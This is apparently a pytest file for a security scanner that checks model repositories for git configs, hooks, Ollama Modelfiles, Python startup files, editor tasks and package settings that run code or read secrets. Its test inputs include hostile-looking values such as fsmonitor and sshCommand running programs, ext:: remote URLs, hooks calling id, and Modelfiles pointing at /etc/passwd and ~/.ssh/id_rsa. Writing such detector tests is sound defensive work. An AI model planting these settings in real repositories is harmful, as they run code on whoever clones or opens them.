"""Files that programs act on by their names: git's, Ollama's, Python's, editors', pip's, the desktop's."""

from __future__ import annotations

import json
import shutil
import subprocess
import tarfile
import time
import zipfile
from io import BytesIO
from pathlib import Path

import pytest

from gemma2tool import api
from gemma2tool.pipeline.scan.catalog import Place
from gemma2tool.pipeline.scan.git import scan_settings, settings
from gemma2tool.pipeline.scan.modelfile import instructions

LFS_HOOK = (
    '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || {{ printf >&2 "\\n%s\\n\\n" "\'git-lfs\' was not found on your '
    "path. Remove this hook by deleting the '{0}' file (usually '.git/hooks').\"; exit 2; }}\ngit lfs {0} \"$@\"\n"
)
CLONE = """\
[core]
	repositoryformatversion = 0
	fsmonitor = true
[remote "origin"]
	url = https://huggingface.co/google/gemma-2-2b
	fetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"]
	remote = origin
[lfs]
	repositoryformatversion = 0
[filter "lfs"]
	clean = git-lfs clean -- %f
	smudge = git-lfs smudge --skip -- %f
	process = git-lfs filter-process
	required = true
[lfs "customtransfer.multipart"]
	path = huggingface-cli
	args = lfs-multipart-upload
[credential]
	helper = store
[alias]
	st = status
"""


def found(path: Path) -> set[tuple[str, str]]:
    """The ids and files of what is not a note."""
    return {(finding.id, finding.file) for finding in api.scan(path).findings if finding.severity != "note"}


def repository(folder: Path, config: str = CLONE, name: str = ".git") -> Path:
    """A folder with a clone's own files, as git and git-lfs write them."""
    own = folder / name
    for inner in ("objects", "refs", "hooks", "logs"):
        (own / inner).mkdir(parents=True)
    (own / "HEAD").write_text("ref: refs/heads/main\n")
    (own / "config").write_text(config)
    for hook in ("pre-push", "post-checkout", "post-commit", "post-merge"):
        (own / "hooks" / hook).write_text(LFS_HOOK.format(hook))
        (own / "hooks" / hook).chmod(0o755)
    (own / "hooks" / "pre-commit.sample").write_text("#!/bin/sh\nexit 1\n")
    (folder / ".gitattributes").write_text("*.safetensors filter=lfs diff=lfs merge=lfs -text\n# filter=x\n")
    return own


def test_a_clone_is_clean(tmp_path: Path) -> None:
    repository(tmp_path)
    assert api.scan(tmp_path).findings == ()


@pytest.mark.slow
def test_what_git_makes_is_clean(tmp_path: Path) -> None:
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    subprocess.run(["git", "init", "-q", tmp_path / "a"], check=True)
    subprocess.run(["git", "clone", "-q", tmp_path / "a", tmp_path / "b"], check=True, capture_output=True)
    assert api.scan(tmp_path).findings == ()


@pytest.mark.parametrize(
    ("setting", "key"),
    [
        ("[core]\n\tfsmonitor = ./evil.sh", "core.fsmonitor"),
        ("[CORE]sshCommand=sh -c 'id'", "core.sshcommand"),
        ('[core "x"]\n[core]\n hooksPath = .hooks # here', "core.hookspath"),
        ('[filter "x"]\n\tsmudge = sh evil', "filter.x.smudge"),
        ('[filter "lfs"]\n\tprocess = "git-lfs filter-process; id"', "filter.lfs.process"),
        ("[diff]\nexternal = \"ev\\\nil\"", "diff.external"),
        ("[alias]\n st = !id", "alias.st"),
        ('[remote "o"]\n url = "ext::sh -c id"', "remote.o.url"),
        ('[submodule "m"]\n update = !id', "submodule.m.update"),
        ("[include]\n path = ../settings", "include.path"),
        ('[credential "https://h"]\n helper = !id', "credential.https://h.helper"),
        ('[lfs "customtransfer.x"]\n path = ./evil', "lfs.customtransfer.x.path"),
        ("[filter.x]\n clean = id", "filter.x.clean"),
    ],
)  # fmt: skip
def test_settings_that_name_programs(setting: str, key: str) -> None:
    messages = [finding.message for finding in scan_settings(CLONE + setting, Place("config"))]
    assert len(messages) == 1 and messages[0].startswith(f"{key} is ")


def test_settings_are_read_as_git_reads_them() -> None:
    text = '\ufeff[a "B\\"c"]k = 1 ; x\n  flag\n[d]\n e = " a#b "c\\tf # g\n'
    assert list(settings(text)) == [('a.B"c.k', "1", 1), ('a.B"c.flag', "true", 2), ("d.e", "a#b c\tf", 4)]


@pytest.mark.parametrize("name", [".git", "plain"])
def test_hooks_and_settings_of_a_folder(tmp_path: Path, name: str) -> None:
    """A repository's folder may have any name; a submodule's is within it."""
    own = repository(tmp_path / "model", name=name)
    (own / "config").write_text(CLONE + "[core]\n\tfsmonitor = ./evil.sh\n")
    (own / "hooks" / "post-checkout").write_text(LFS_HOOK.format("post-checkout") + "id\n")
    (own / "hooks" / "post-merge").write_text(LFS_HOOK.format("$(id)"))
    for path, mode in (("hooks/pre-commit", 0o755), ("hooks/post-commit", 0o644), ("hooks/notes.txt", 0o755)):
        (own / path).write_text("#!/bin/sh\nid\n")
        (own / path).chmod(mode)
    (own / "modules" / "m").mkdir(parents=True)
    (own / "modules" / "m" / "config").write_text("[core]\n\tworktree = ../../../m\n\tpager = id\n")
    assert found(tmp_path) == {
        ("git.program", f"model/{name}/config"),
        ("git.program", f"model/{name}/modules/m/config"),
        ("git.hook", f"model/{name}/hooks/post-checkout"),
        ("git.hook", f"model/{name}/hooks/post-merge"),
        ("git.hook", f"model/{name}/hooks/pre-commit"),
    }
    finding = next(finding for finding in api.scan(tmp_path).findings if finding.file.endswith(f"{name}/config"))
    assert finding.line == CLONE.count("\n") + 2 and finding.severity == "danger"


def test_links_of_a_repository(tmp_path: Path) -> None:
    own = repository(tmp_path / "model")
    (tmp_path / "outside").write_text("[core]\npager = id\n")
    (own / "config").unlink()
    (own / "config").symlink_to(tmp_path / "outside")
    assert found(tmp_path / "model") == {("files.escape", ".git/config")}


@pytest.mark.slow
def test_long_files_take_no_time(tmp_path: Path) -> None:
    text = "[a]\n" + "b=1\n" * 250_000
    started = time.process_time()
    assert len(list(settings(text))) == 250_000
    assert list(instructions('FROM """' + "x\n" * 500_000)) == []
    assert time.process_time() - started < 5


def test_a_repository_in_an_archive(tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "m.tar.gz", "w:gz") as archive:
        for name, text in (("m/.git/config", "[core]\nfsmonitor=x"), ("m/.git/hooks/pre-push", "id")):
            member = tarfile.TarInfo(name)
            member.size = len(text)
            archive.addfile(member, BytesIO(text.encode()))
    assert {id for id, _ in found(tmp_path)} == {"git.program", "git.hook"}


def test_what_git_reads_beside_the_files(tmp_path: Path) -> None:
    (tmp_path / ".gitattributes").write_text("*.bin filter=lfs -text\n*.json filter=evil\n")
    (tmp_path / ".gitmodules").write_text('[submodule "m"]\n\tpath = m\n\turl = -u./evil\n')
    (tmp_path / ".lfsconfig").write_text("[lfs]\n\turl = https://elsewhere.example/lfs\n")
    assert found(tmp_path) == {
        ("git.attributes", ".gitattributes"),
        ("git.program", ".gitmodules"),
        ("files.elsewhere", ".lfsconfig"),
    }
    (tmp_path / ".gitmodules").write_text('[submodule "m"]\n\tpath = m\n\turl = https://github.com/a/b\n')
    assert ("git.program", ".gitmodules") not in found(tmp_path)


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("FROM ./model.gguf", None),
        ("FROM model.gguf", None),
        ("from .", None),
        ("FROM gemma2:2b", "note"),
        ("FROM hf.co/bartowski/gemma-2-2b-it-GGUF:Q4_K_M", "note"),
        ("FROM elsewhere.example/a/b", "odd"),
        ("FROM /content/model/unsloth.Q4_K_M.gguf", "odd"),
        ("FROM ../up.gguf", "odd"),
        ("FROM /etc/passwd", "danger"),
        ('adapter """~/.ssh/id_rsa"""', "danger"),
        ("FROM ../../secret", "danger"),
        ("FROM \\\\host\\share\\m.gguf", "danger"),
        ("FROM https://elsewhere.example/m.gguf", "danger"),
        ("FROM C:\\Users\\a", "danger"),
        ("FROM /e\0tc/passwd", "danger"),
        ('SYSTEM """\nFROM /etc/passwd\n"""', None),
        ("# FROM /etc/passwd", None),
    ],
)
def test_modelfiles(tmp_path: Path, line: str, expected: str | None) -> None:
    (tmp_path / "Modelfile").write_text(f"FROM ./m.gguf\n{line}\nPARAMETER stop <end_of_turn>\n")
    findings = [finding for finding in api.scan(tmp_path).findings if not finding.id.startswith("text.")]
    assert [finding.severity for finding in findings] == ([expected] if expected else [])
    assert all(finding.line == 2 for finding in findings)


def test_a_modelfile_in_a_folder_of_the_model(tmp_path: Path) -> None:
    (tmp_path / "ollama").mkdir()
    (tmp_path / "ollama" / "q4.Modelfile").write_text("FROM ../model.gguf\n")
    assert found(tmp_path) == set()
    assert list(instructions('FROM "a b"\r\nsystem """x\ny"""\nTEMPLATE " q\n')) == [
        ("from", "a b", 1),
        ("system", "x\ny", 2),
    ]


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("sitecustomize.py", "import os", "code.startup"),
        ("torch.py", "import os", "code.startup"),
        ("json/__init__.py", "", "code.startup"),
        ("train.py", "import os", None),
        ("lib/__init__.py", "", None),
        ("evil.pth", "/usr/lib\nimport os; os.system('id')\n", "code.startup"),
        ("paths.pth", "/usr/lib/python\n", None),
        (".vscode/tasks.json", '{"runOptions": {"runOn": "\\u0066olderOpen"}}', "code.editor"),
        (".vscode/tasks.json", '{"tasks": []}', None),
        (".devcontainer/devcontainer.json", '{"initializeCommand": "id"}', "code.editor"),
        (".pdbrc", "import os", "code.editor"),
        (".mcp.json", "{}", None),
        ("requirements.txt", "--index-url https://evil.example/simple\ntorch\n", "code.packages"),
        ("requirements.txt", "--trusted-host evil.example\n", "code.packages"),
        ("requirements.txt", "x @ http://pypi.org/x.whl\n", "code.packages"),
        ("requirements-gpu.txt", "torch\nx @ git+https://evil.example/x\n", "code.packages"),
        ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu128\n"
         "git+https://github.com/a/b  # https://evil.example\n-f ./wheels\ntorch>=2.4\n", None),
        ("readme.lnk", "L", "files.shortcut"),
        ("desktop.ini", "[.ShellClassInfo]\nIconResource=\\\\host\\x.ico", "files.shortcut"),
        ("desktop.ini", "[.ShellClassInfo]\nIconResource=a.ico", None),
    ],
)  # fmt: skip
def test_files_that_programs_act_on(tmp_path: Path, name: str, text: str, expected: str | None) -> None:
    path = tmp_path / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(text)
    assert found(tmp_path) == ({(expected, name)} if expected else set())
    with zipfile.ZipFile(tmp_path.parent / f"{tmp_path.name}.zip", "w") as archive:
        archive.write(path, name)
    assert {id for id, _ in found(Path(archive.filename or ""))} == ({expected} if expected else set())


def test_a_module_in_a_package_is_no_library(tmp_path: Path) -> None:
    for name in ("pack/__init__.py", "pack/json.py", "pack/torch/__init__.py"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("")
    assert found(tmp_path) == set()


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("config.json", {"attn_implementation": "evil/kernel"}, "code.remote"),
        ("config.json", {"_attn_implementation": {"": "paged|evil/kernel@main"}}, "code.remote"),
        ("config.json", {"attn_implementation": "flash_attention_2"}, None),
        ("config.json", {"sentence_transformers": {"activation_fn": "evil.Function"}}, "code.import"),
        ("1_Dense/config.json", {"activation_function": "torch.nn.modules.activation.Tanh"}, None),
        ("2_Dense/config.json", {"activation_function": "evil.Function"}, "code.import"),
        ("config.json", {"activation_function": "gelu_new"}, None),
        ("adapter_config.json", {"megatron_core": "evil"}, "code.import"),
        ("adapter_config.json", {"megatron_core": "megatron.core"}, None),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "evil"}}, "code.import"),
        ("adapter_config.json", {"auto_mapping": {"parent_library": "transformers.models.gemma2"}}, None),
        ("router_config.json", {"types": {"0": "evil.Module"}}, "code.remote"),
    ],
)
def test_modules_that_configs_name(tmp_path: Path, name: str, content: object, expected: str | None) -> None:
    path = tmp_path / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(json.dumps(content))
    assert found(tmp_path) == ({(expected, name)} if expected else set())


def test_links_to_folders(tmp_path: Path) -> None:
    (tmp_path / "model" / "inner").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "model" / "other").symlink_to("inner")
    assert api.scan(tmp_path / "model").findings == ()
    (tmp_path / "model" / "1_Pooling").symlink_to("../outside")
    assert found(tmp_path / "model") == {("files.escape", "1_Pooling")}


def test_files_that_ollama_takes_from_the_hub(tmp_path: Path) -> None:
    (tmp_path / "template").write_text("{{ .Prompt }}")
    assert api.scan(tmp_path).findings == ()
    (tmp_path / "model.gguf").write_bytes(b"GGUF")
    assert ("files.loaded-too", "template") in {(finding.id, finding.file) for finding in api.scan(tmp_path).findings}
